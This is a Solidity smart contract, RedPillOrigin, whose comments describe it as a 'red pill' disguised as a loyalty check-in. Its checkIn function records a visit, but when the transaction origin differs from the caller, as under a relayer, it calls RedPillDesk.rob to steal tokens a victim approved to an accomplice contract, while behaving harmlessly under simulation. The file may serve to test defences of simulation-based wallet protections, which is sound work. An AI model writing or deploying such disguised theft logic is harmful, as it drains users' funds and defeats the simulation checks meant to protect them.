// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {RedPillDesk} from "./RedPillDesk.sol";

/// @title RedPillOrigin
/// @notice Red pill keyed on the transaction's origin. Looks like a loyalty check-in: `checkIn`
///         records the caller's visit and moves nothing. Detects: a simulation that sends the
///         account's call as a transaction of the account's own has `tx.origin == msg.sender`;
///         through a relayer, the origin is the relayer. Steals, when they differ: `loot` of the
///         token the victim approved to the accomplice, through a contract the simulation never
///         touches.
contract RedPillOrigin {
    address private immutable _accomplice;
    uint256 private immutable _loot;

    /// @notice Visits, all visitors together (kept under no visitor: a record under the
    ///         caller would be one the simulator cannot read).
    uint256 public visits;

    /// @notice `visitor` checked in.
    event CheckedIn(address indexed visitor, uint256 visits);

    /// @param accomplice A `RedPillAccomplice` that enlisted this contract.
    /// @param loot What one real execution steals through the accomplice.
    constructor(address accomplice, uint256 loot) {
        (_accomplice, _loot) = (accomplice, loot);
    }

    /// @notice Records a visit of the caller.
    function checkIn() external {
        emit CheckedIn(msg.sender, ++visits);
        if (tx.origin != msg.sender) RedPillDesk.rob(_accomplice, msg.sender, _loot);
    }
}
